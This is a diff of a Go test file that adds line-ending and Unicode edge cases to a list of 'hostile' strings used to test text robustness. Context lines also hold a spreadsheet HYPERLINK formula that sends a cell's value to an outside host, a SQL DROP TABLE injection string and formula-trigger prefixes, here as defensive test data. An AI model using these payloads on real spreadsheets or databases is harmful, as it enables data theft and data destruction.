@@ -24,7 +24,7 @@ import (
 // hostile are texts that a format or a tool might garble.
 var hostile = []string{
 	`=HYPERLINK("https://example.org/?"&A1,"look")`, `+1+1`, `-1+1`, `@SUM(A1)`, "\tTab first", `'=1`,
-	`"quoted", with a comma; and a semicolon`, "two\nlines", "two\r\nlines", "a line\n", `back\slash \n \. \N`, ` spaces around `,
+	`"quoted", with a comma; and a semicolon`, "two\nlines", "two\r\nlines", "a line\n", "\n\nlines around\n\n", "\r\nof Windows\r\n", "of old\rmachines", "a \ufeffmark \u0085 \u00a0", `back\slash \n \. \N`, ` spaces around `,
 	"Zürich, Łódź, 東京, \u2028, 😀, e\u0301", `NULL`, `null`, `NA`, `nan`, `true`, `0123`, `1e5`, `2026-01-01`, `{"json":[1]}`, `[1,2]`, `'; DROP TABLE record; --`, `<b>&amp;</b>`, `a|b`, `%00`,
 }
 
